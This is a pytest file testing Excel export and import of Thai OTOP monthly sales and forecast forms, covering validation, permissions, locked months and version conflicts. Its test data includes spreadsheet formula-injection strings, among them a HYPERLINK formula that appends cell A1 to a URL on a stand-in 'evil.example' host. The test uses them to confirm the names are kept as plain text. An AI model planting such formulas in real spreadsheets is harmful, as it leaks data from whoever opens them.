"""Excel round trip: รต.1 and forecast exports read back, dry run, every bad input, saving through the services."""

from __future__ import annotations

import io
from datetime import datetime
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select, update

from db.engine import session_scope
from db.models import CHANNEL_COLUMNS, AuditEvent, ForecastForm, MonthlySale
from otop import clock
from otop.entry import EntryConflict, RowInput, save_month
from otop.exports import export_forecast, export_rt1
from otop.fiscal import BANGKOK, Period
from otop.forecast import ForecastRowInput, load_forecast, save_forecast
from otop.imports import (
    ImportRejected,
    apply_forecast_import,
    apply_rt1_import,
    parse_month_label,
    preview_forecast_import,
    preview_rt1_import,
)
from otop.permissions import Actor, PermissionDenied
from otop.status import EntryRefused
from otop.summary import refresh_district_months
from tests.conftest import clear_data
from tests.factories import actor, lock_month, make_producer, make_sale

PERIOD = Period(2567, 10)
OPEN_NOW = datetime(2024, 11, 3, 10, 0, tzinfo=BANGKOK)
DISTRICT = actor("district", "3101")
FY = 2568
# Column letters of form รต.1: B producer code, C name, E–I category marks, M–P channels, R remark.
ID, NAME, FOOD, BEVERAGE = "B", "C", "E", "F"
CHANNEL_LETTERS = dict(zip(CHANNEL_COLUMNS, "MNOP", strict=True))
NOTE = "R"


@pytest.fixture(autouse=True)
def _open_month() -> None:
    clock.set_now(lambda: OPEN_NOW)


# --- helpers -------------------------------------------------------------------------------------


def _producers_with_sales(engine: Engine, amounts: list[tuple[int, int, int, int]], **kwargs: object) -> list[int]:
    with session_scope(engine, write=True) as session:
        ids = []
        for values in amounts:
            producer = make_producer(session, "3101", **kwargs)  # type: ignore[arg-type]
            make_sale(session, producer, PERIOD.code, values)
            ids.append(producer.id)
    return ids  # type: ignore[return-value]


def _export(engine: Engine, who: Actor = DISTRICT, district_code: str = "3101") -> bytes:
    with session_scope(engine) as session:
        return export_rt1(session=session, actor=who, district_code=district_code, period=PERIOD).content


def _preview(engine: Engine, content: bytes, who: Actor = DISTRICT, period: Period = PERIOD):  # type: ignore[no-untyped-def]
    with session_scope(engine, write=True) as session:
        return preview_rt1_import(session=session, actor=who, district_code="3101", period=period, content=content)


def _apply(engine: Engine, content: bytes, base_version: int, who: Actor = DISTRICT):  # type: ignore[no-untyped-def]
    with session_scope(engine, write=True) as session:
        return apply_rt1_import(
            session=session, actor=who, district_code="3101", period=PERIOD, content=content, base_version=base_version
        )


def _data_row(content: bytes, producer_id: int) -> int:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    for row in range(1, sheet.max_row + 1):
        if sheet[f"{ID}{row}"].value == producer_id:
            return row
    raise AssertionError(f"producer {producer_id} not in the sheet")


def _edit(content: bytes, cells: dict[str, object], *, insert_copy_of: int | None = None) -> bytes:
    """Change cells as an officer would in Excel; optionally duplicate a row first (inserted right below it)."""
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    if insert_copy_of is not None:
        values = [cell.value for cell in sheet[insert_copy_of]]
        sheet.insert_rows(insert_copy_of + 1)
        for column, value in enumerate(values, start=1):
            sheet.cell(insert_copy_of + 1, column).value = value
    for ref, value in cells.items():
        sheet[ref].value = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _stored(engine: Engine) -> dict[tuple[int, str], tuple[Decimal, ...]]:
    with session_scope(engine) as session:
        return {
            (sale.producer_id, sale.category): tuple(getattr(sale, column) for column in CHANNEL_COLUMNS)
            for sale in session.scalars(select(MonthlySale).where(MonthlySale.period == PERIOD.code))
        }


def _audit_count(engine: Engine) -> int:
    with session_scope(engine) as session:
        return session.scalar(select(func.count()).select_from(AuditEvent)) or 0


def _set_figures(engine: Engine, values: dict[tuple[int, str], tuple[Decimal, ...]]) -> None:
    """Overwrite stored figures directly, keeping each row's saved version (no conflict with an earlier export)."""
    with session_scope(engine, write=True) as session:
        for (producer_id, category), amounts in values.items():
            session.execute(
                update(MonthlySale)
                .where(
                    MonthlySale.producer_id == producer_id,
                    MonthlySale.category == category,
                    MonthlySale.period == PERIOD.code,
                )
                .values(dict(zip(CHANNEL_COLUMNS, amounts, strict=True)))
            )
        refresh_district_months(session, [("3101", PERIOD.code)])


# --- the round trip ------------------------------------------------------------------------------

_AMOUNTS = st.decimals(min_value=0, max_value=Decimal("999999.99"), places=2, allow_nan=False, allow_infinity=False)
_NAMES = st.one_of(
    st.text(alphabet="กขคงจฉชซญดตถทนบปผพฟภมยรลวศสหอฮะาำิีึืุูเแโใไ่้๊๋ ABCxyz0123456789()-", min_size=1, max_size=40),
    st.sampled_from(['=HYPERLINK("http://evil.example","คลิก")', "+66 81", "-ลบ", "@SUM(A1)", "=1+1"]),
).filter(lambda name: name.strip() != "")
_FIGURES = st.tuples(_AMOUNTS, _AMOUNTS, _AMOUNTS, _AMOUNTS)
_CATEGORIES = st.lists(
    st.sampled_from(["food", "beverage", "textile", "household", "herbal"]), min_size=1, max_size=2, unique=True
)
_NOTES = st.one_of(st.none(), st.text(alphabet="ก ข=คง1", min_size=1, max_size=20).filter(lambda t: t.strip() != ""))
_ROW = st.tuples(_NAMES, _CATEGORIES, st.lists(st.tuples(_FIGURES, _FIGURES), min_size=2, max_size=2), _NOTES)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(_ROW, min_size=1, max_size=5))
def test_rt1_export_then_import_reproduces_the_month_exactly(engine: Engine, rows: list) -> None:  # type: ignore[type-arg]
    clear_data(engine)
    wanted: dict[tuple[int, str], tuple[Decimal, ...]] = {}
    before: dict[tuple[int, str], tuple[Decimal, ...]] = {}
    notes: dict[tuple[int, str], str | None] = {}
    with session_scope(engine, write=True) as session:
        for name, categories, figures, note in rows:
            producer = make_producer(session, "3101", name=name, categories=tuple(categories))
            for category, (target, other) in zip(categories, figures, strict=False):
                key = (producer.id, category)
                sale = make_sale(session, producer, PERIOD.code, target, category=category)
                sale.outlier_note = note
                wanted[key], before[key] = target, other  # type: ignore[index]
                notes[key] = " ".join(note.split()) if note else None  # type: ignore[index]
    content = _export(engine)
    _set_figures(engine, before)

    preview = _preview(engine, content)
    assert preview.problems == []
    changed = {key for key in wanted if wanted[key] != before[key]}
    assert preview.count("changed") >= len(changed)
    assert preview.count("added") == 0
    _apply(engine, content, preview.base_version)

    assert _stored(engine) == wanted
    with session_scope(engine) as session:
        stored_notes = {
            (sale.producer_id, sale.category): sale.outlier_note
            for sale in session.scalars(select(MonthlySale).where(MonthlySale.period == PERIOD.code))
        }
    assert stored_notes == notes
    assert _preview(engine, _export(engine)).count("changed") == 0


def test_import_dry_run_saves_nothing_and_lists_old_and_new(engine: Engine) -> None:
    first, second = _producers_with_sales(engine, [(1000, 0, 0, 0), (500, 50, 0, 0)])
    content = _export(engine)
    row = _data_row(content, first)
    edited = _edit(content, {f"M{row}": 1500, f"{NOTE}{row}": "งานกาชาด"})
    audits = _audit_count(engine)

    preview = _preview(engine, edited)

    assert preview.ok
    assert (preview.count("changed"), preview.count("unchanged"), preview.count("added")) == (1, 1, 0)
    changed = next(row for row in preview.rows if row.status == "changed")
    assert [change.text for change in changed.changes] == [
        "ในประเทศ ออฟไลน์: 1,000.00 → 1,500.00",
        "หมายเหตุ: – → งานกาชาด",
    ]
    assert "แก้ไข 1 แถว" in preview.summary
    assert _stored(engine)[(first, "food")][0] == Decimal("1000.00")
    assert _audit_count(engine) == audits
    with session_scope(engine) as session:
        assert session.get(ForecastForm, ("3101", FY)) is None
        assert session.scalar(select(func.count()).select_from(MonthlySale)) == 2
    assert second


def test_import_applies_through_the_save_service_with_audit_and_confirmation(engine: Engine) -> None:
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    edited = _edit(content, {f"N{_data_row(content, first)}": "2,500.50"})
    preview = _preview(engine, edited)

    result = _apply(engine, edited, preview.base_version)

    assert (result.version, result.changed_cells) == (1, 1)
    assert _stored(engine)[(first, "food")] == (
        Decimal("1000.00"),
        Decimal("2500.50"),
        Decimal("0.00"),
        Decimal("0.00"),
    )
    with session_scope(engine) as session:
        events = session.scalars(select(AuditEvent).where(AuditEvent.action == "update_cell")).all()
    assert [(event.field, event.old_value, event.new_value) for event in events] == [
        ("domestic_online", "0.00", "2500.50")
    ]


def test_import_adds_a_row_for_a_producers_other_category(engine: Engine) -> None:
    with session_scope(engine, write=True) as session:
        producer = make_producer(session, "3101", categories=("food", "beverage"))
        make_sale(session, producer, PERIOD.code, (100, 0, 0, 0))
    content = _export(engine)
    row = _data_row(content, producer.id)  # type: ignore[arg-type]
    edited = _edit(
        content, {f"{FOOD}{row + 1}": None, f"{BEVERAGE}{row + 1}": "✓", f"M{row + 1}": 700}, insert_copy_of=row
    )

    preview = _preview(engine, edited)

    assert preview.ok, preview.problems
    assert [(r.status, r.sheet_row) for r in preview.rows] == [("unchanged", row), ("added", row + 1)]
    _apply(engine, edited, preview.base_version)
    assert _stored(engine)[(producer.id, "beverage")][0] == Decimal("700.00")  # type: ignore[index]


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("123,456.50", Decimal("123456.50")),
        ("๑๒,๓๔๕.๒๕", Decimal("12345.25")),
        ("  800  ", Decimal("800.00")),
        ("\u00a01200.5\u00a0", Decimal("1200.50")),
        ("450", Decimal("450.00")),
        (None, Decimal("0.00")),
        ("", Decimal("0.00")),
        (99.9, Decimal("99.90")),
    ],
)
def test_import_accepts_what_officers_type(engine: Engine, given: object, expected: Decimal) -> None:
    (first,) = _producers_with_sales(engine, [(1, 1, 1, 1)])
    content = _export(engine)
    edited = _edit(content, {f"M{_data_row(content, first)}": given})

    preview = _preview(engine, edited)
    assert preview.ok, preview.problems
    _apply(engine, edited, preview.base_version)

    assert _stored(engine)[(first, "food")][0] == expected


def test_import_accepts_rows_the_officer_reordered(engine: Engine) -> None:
    first, second = _producers_with_sales(engine, [(100, 0, 0, 0), (200, 0, 0, 0)])
    content = _export(engine)
    first_row, second_row = _data_row(content, first), _data_row(content, second)
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    first_values = [cell.value for cell in sheet[first_row]]
    second_values = [cell.value for cell in sheet[second_row]]
    for column, (a, b) in enumerate(zip(first_values, second_values, strict=True), start=1):
        sheet.cell(first_row, column).value = b
        sheet.cell(second_row, column).value = a
    sheet[f"M{first_row}"].value = 222  # now the second producer's row
    buffer = io.BytesIO()
    workbook.save(buffer)

    preview = _preview(engine, buffer.getvalue())
    _apply(engine, buffer.getvalue(), preview.base_version)

    stored = _stored(engine)
    assert (stored[(first, "food")][0], stored[(second, "food")][0]) == (Decimal("100.00"), Decimal("222.00"))


# --- every bad input, named by sheet row and column ------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "value", "message"),
    [
        ("M", "หนึ่งพัน", "คอลัมน์ M (ยอดจำหน่าย (บาท) ในประเทศ ขายออฟไลน์): “หนึ่งพัน” ไม่ใช่ตัวเลข"),
        ("N", -5, "คอลัมน์ N (ยอดจำหน่าย (บาท) ในประเทศ ขายออนไลน์): ติดลบไม่ได้"),
        ("O", "10.125", "คอลัมน์ O (ยอดจำหน่าย (บาท) ต่างประเทศ ขายออฟไลน์): มีทศนิยมเกิน 2 ตำแหน่ง"),
        ("P", 3.14159, "คอลัมน์ P (ยอดจำหน่าย (บาท) ต่างประเทศ ขายออนไลน์): มีทศนิยมเกิน 2 ตำแหน่ง"),
        ("B", 999999, "คอลัมน์ B (รหัสผู้ผลิต): ไม่พบผู้ผลิตรหัส 999999 ในระบบ"),
        ("B", "ไม่ทราบ", "คอลัมน์ B (รหัสผู้ผลิต): ไม่มีรหัสผู้ผลิต"),
        ("E", None, "คอลัมน์ E–I (ประเภทผลิตภัณฑ์): ไม่ได้ทำเครื่องหมายประเภทผลิตภัณฑ์"),
        ("F", "/", "คอลัมน์ E–I (ประเภทผลิตภัณฑ์): ทำเครื่องหมายประเภทผลิตภัณฑ์มากกว่า 1 ช่อง"),
        ("C", "กลุ่มอื่นที่ไม่ใช่", "คอลัมน์ C (รายชื่อกลุ่ม/ผู้ผลิต ผู้ประกอบการ OTOP): ชื่อ “กลุ่มอื่นที่ไม่ใช่” ไม่ตรงกับ"),
    ],
)
def test_import_refuses_a_bad_cell_naming_sheet_row_and_column(
    engine: Engine, cell: str, value: object, message: str
) -> None:
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    row = _data_row(content, first)
    edited = _edit(content, {f"{cell}{row}": value})

    preview = _preview(engine, edited)

    assert not preview.ok
    assert any(problem.startswith(f"แถวที่ {row} {message}") for problem in preview.problems), preview.problems
    with pytest.raises(ImportRejected) as refused:
        _apply(engine, edited, preview.base_version)
    assert refused.value.problems == preview.problems
    assert _stored(engine)[(first, "food")][0] == Decimal("1000.00")


def test_import_refuses_a_producer_of_another_district(engine: Engine) -> None:
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)])
    with session_scope(engine, write=True) as session:
        stranger = make_producer(session, "3102")
    content = _export(engine)
    row = _data_row(content, first)

    preview = _preview(engine, _edit(content, {f"{ID}{row}": stranger.id, f"{NAME}{row}": stranger.name}))

    assert preview.problems == [
        f"แถวที่ {row} คอลัมน์ B (รหัสผู้ผลิต): ผู้ผลิตรหัส {stranger.id} ({stranger.name}) อยู่อำเภออื่น (รหัส 3102) นำเข้าในอำเภอนี้ไม่ได้"
    ]


def test_import_refuses_a_duplicated_row_naming_both_rows(engine: Engine) -> None:
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    row = _data_row(content, first)

    preview = _preview(engine, _edit(content, {}, insert_copy_of=row))

    assert preview.problems == [
        f"แถวที่ {row + 1}: ผู้ผลิตรหัส {first} ประเภทอาหาร ซ้ำกับแถวที่ {row} (ผู้ผลิตและประเภทเดียวกันมีได้แถวเดียว)"
    ]


def test_import_reports_every_problem_at_once_and_saves_nothing(engine: Engine) -> None:
    first, second = _producers_with_sales(engine, [(1000, 0, 0, 0), (2000, 0, 0, 0)])
    content = _export(engine)
    edited = _edit(content, {f"M{_data_row(content, first)}": -1, f"N{_data_row(content, second)}": "abc"})

    preview = _preview(engine, edited)

    assert len(preview.problems) == 2
    assert preview.untouched == 0
    assert _stored(engine)[(second, "food")][0] == Decimal("2000.00")


def test_import_leaves_rows_missing_from_the_file_as_they_are(engine: Engine) -> None:
    first, second = _producers_with_sales(engine, [(1000, 0, 0, 0), (2000, 0, 0, 0)])
    content = _export(engine)
    workbook = load_workbook(io.BytesIO(content))
    workbook.worksheets[0].delete_rows(_data_row(content, second))
    buffer = io.BytesIO()
    workbook.save(buffer)
    edited = _edit(buffer.getvalue(), {f"M{_data_row(buffer.getvalue(), first)}": 1500})

    preview = _preview(engine, edited)
    _apply(engine, edited, preview.base_version)

    assert (preview.untouched, preview.count("changed")) == (1, 1)
    assert "แถวในระบบที่ไม่มีในไฟล์ 1 แถว (คงค่าเดิม)" in preview.summary
    stored = _stored(engine)
    assert (stored[(first, "food")][0], stored[(second, "food")][0]) == (Decimal("1500.00"), Decimal("2000.00"))


def test_import_refuses_a_file_of_another_district_or_month(engine: Engine) -> None:
    _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    with pytest.raises(ImportRejected) as refused:
        _preview(engine, content, period=Period(2567, 11))
    assert refused.value.problems == ["ไฟล์นี้เป็นข้อมูลเดือน 2567-10 ไม่ใช่เดือน 2567-11 ที่เลือก"]


def test_import_refuses_a_file_that_is_not_a_workbook(engine: Engine) -> None:
    with pytest.raises(ImportRejected) as refused:
        _preview(engine, b"producer,amount\n1,100\n")
    assert refused.value.problems[0].startswith("อ่านไฟล์ไม่ได้")


def test_import_refuses_a_sheet_whose_columns_were_moved(engine: Engine) -> None:
    _producers_with_sales(engine, [(1000, 0, 0, 0)])
    workbook = load_workbook(io.BytesIO(_export(engine)))
    workbook.worksheets[0].delete_cols(4)
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(ImportRejected) as refused:
        _preview(engine, buffer.getvalue())
    assert refused.value.problems[0].startswith("หัวตารางคอลัมน์ D ควรเป็น “อำเภอ”")


def test_import_of_a_locked_month_is_refused_in_the_preview_and_on_apply(engine: Engine) -> None:
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    with session_scope(engine, write=True) as session:
        lock_month(session, "3101", PERIOD.code)
    edited = _edit(content, {f"M{_data_row(content, first)}": 5})

    preview = _preview(engine, edited)

    assert preview.problems and "ถูกล็อก" in preview.problems[0]
    with pytest.raises(EntryRefused):
        _apply(engine, edited, preview.base_version)
    assert _stored(engine)[(first, "food")][0] == Decimal("1000.00")


def test_import_of_a_file_older_than_a_later_save_is_a_conflict(engine: Engine) -> None:
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    with session_scope(engine, write=True) as session:
        save_month(
            session=session,
            actor=DISTRICT,
            district_code="3101",
            period=PERIOD,
            rows=[RowInput(first, "food", 1100, 0, 0, 0)],
            base_version=0,
        )
    edited = _edit(content, {f"M{_data_row(content, first)}": 1200})

    preview = _preview(engine, edited)

    assert len(preview.problems) == 1
    assert preview.problems[0].startswith("ไฟล์นี้ดาวน์โหลดไว้เมื่อข้อมูลเป็นฉบับที่ 0: มีผู้บันทึกข้อมูลเดือนตุลาคม 2567")
    with pytest.raises(EntryConflict):
        _apply(engine, edited, preview.base_version)
    assert _stored(engine)[(first, "food")][0] == Decimal("1100.00")


def test_import_needs_a_comment_for_an_unusual_value_as_the_grid_does(engine: Engine) -> None:
    (first,) = _producers_with_sales(engine, [(0, 0, 0, 0)])
    content = _export(engine)
    row = _data_row(content, first)

    preview = _preview(engine, _edit(content, {f"M{row}": 5_000_000}))
    assert len(preview.problems) == 1
    assert preview.problems[0].startswith(f"แถวที่ {row} ของไฟล์")
    assert "กรุณาใส่หมายเหตุ" in preview.problems[0]

    explained = _edit(content, {f"M{row}": 5_000_000, f"{NOTE}{row}": "ได้รับคำสั่งซื้องานแสดงสินค้า"})
    assert _preview(engine, explained).ok


@pytest.mark.parametrize(
    ("who", "district_code"),
    [(actor("district", "3102"), "3101"), (actor("department"), "3101"), (actor("province", "30"), "3101")],
)
def test_import_is_refused_to_whoever_may_not_write_the_district(
    engine: Engine, who: Actor, district_code: str
) -> None:
    _producers_with_sales(engine, [(1000, 0, 0, 0)])
    content = _export(engine)
    with pytest.raises(PermissionDenied):
        _preview(engine, content, who=who)
    with pytest.raises(PermissionDenied):
        _apply(engine, content, 0, who=who)


def test_a_formula_like_producer_name_is_stored_exported_and_read_back_as_text(engine: Engine) -> None:
    name = '=HYPERLINK("http://evil.example/?x="&A1,"คลิกที่นี่")'
    (first,) = _producers_with_sales(engine, [(1000, 0, 0, 0)], name=name)
    content = _export(engine)
    cell = load_workbook(io.BytesIO(content)).worksheets[0][f"{NAME}{_data_row(content, first)}"]

    assert (cell.value, cell.data_type) == (name, "s")
    assert _preview(engine, content).ok


# --- the forecast form ---------------------------------------------------------------------------------------


def _export_forecast(engine: Engine) -> bytes:
    with session_scope(engine) as session:
        return export_forecast(session=session, actor=DISTRICT, district_code="3101", fiscal_year_be=FY).content


def _forecast_edit(content: bytes, month_row: int, cells: dict[str, object]) -> bytes:
    sheet_row = _forecast_first_row(content) + month_row
    return _edit(content, {f"{column}{sheet_row}": value for column, value in cells.items()})


def _forecast_first_row(content: bytes) -> int:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return next(row for row in range(1, sheet.max_row + 1) if sheet[f"A{row}"].value == "ตุลาคม 2567")


def test_forecast_export_then_import_reproduces_the_form(engine: Engine) -> None:
    with session_scope(engine, write=True) as session:
        save_forecast(
            session=session,
            actor=DISTRICT,
            district_code="3101",
            fiscal_year_be=FY,
            rows=[ForecastRowInput(Period(2567, 10), 1000, 200.5, 0, 0, remark="=งานกาชาด")],
            base_version=0,
        )
    content = _export_forecast(engine)
    edited = _forecast_edit(content, 1, {"B": "๑,๕๐๐", "G": "ช่วงเทศกาล"})
    with session_scope(engine, write=True) as session:
        preview = preview_forecast_import(
            session=session, actor=DISTRICT, district_code="3101", fiscal_year_be=FY, content=edited
        )
    assert preview.ok, preview.problems
    assert (preview.count("changed"), preview.count("unchanged")) == (1, 11)

    with session_scope(engine, write=True) as session:
        apply_forecast_import(
            session=session,
            actor=DISTRICT,
            district_code="3101",
            fiscal_year_be=FY,
            content=edited,
            base_version=preview.base_version,
        )
    with session_scope(engine) as session:
        form = load_forecast(session=session, actor=DISTRICT, district_code="3101", fiscal_year_be=FY)
    october, november = form.months[0], form.months[1]
    assert (october.domestic_offline, october.domestic_online, october.remark) == (
        Decimal("1000.00"),
        Decimal("200.50"),
        "=งานกาชาด",
    )
    assert (november.domestic_offline, november.remark) == (Decimal("1500.00"), "ช่วงเทศกาล")


def test_forecast_import_names_a_bad_month_and_a_bad_amount(engine: Engine) -> None:
    content = _forecast_edit(_export_forecast(engine), 0, {"A": "ตุลา 67", "C": -3})
    first_row = _forecast_first_row(_export_forecast(engine))
    with session_scope(engine, write=True) as session:
        preview = preview_forecast_import(
            session=session, actor=DISTRICT, district_code="3101", fiscal_year_be=FY, content=content
        )
    assert preview.problems == [
        f"แถวที่ {first_row} คอลัมน์ A (เดือน): “ตุลา 67” ไม่ใช่ชื่อเดือนและปี พ.ศ. เช่น ตุลาคม 2567",
        f"แถวที่ {first_row} คอลัมน์ C (ประมาณการรายได้จากการจำหน่ายผลิตภัณฑ์ OTOP ภายในประเทศ (บาท) ออนไลน์): ติดลบไม่ได้ (-3)",
    ]


def test_forecast_import_of_a_rt1_file_is_refused(engine: Engine) -> None:
    _producers_with_sales(engine, [(1000, 0, 0, 0)])
    with session_scope(engine, write=True) as session, pytest.raises(ImportRejected) as refused:
        preview_forecast_import(
            session=session, actor=DISTRICT, district_code="3101", fiscal_year_be=FY, content=_export(engine)
        )
    assert "ไม่พบหัวตารางของแบบประมาณการรายได้" in refused.value.problems[0]


@pytest.mark.parametrize(
    ("text", "expected"),
    [("ตุลาคม 2567", Period(2567, 10)), (" กันยายน  ๒๕๖๘ ", Period(2568, 9)), ("ต.ค. 67", None), ("มกราคม", None)],
)
def test_parse_month_label_reads_thai_month_and_be_year(text: str, expected: Period | None) -> None:
    assert parse_month_label(text) == expected
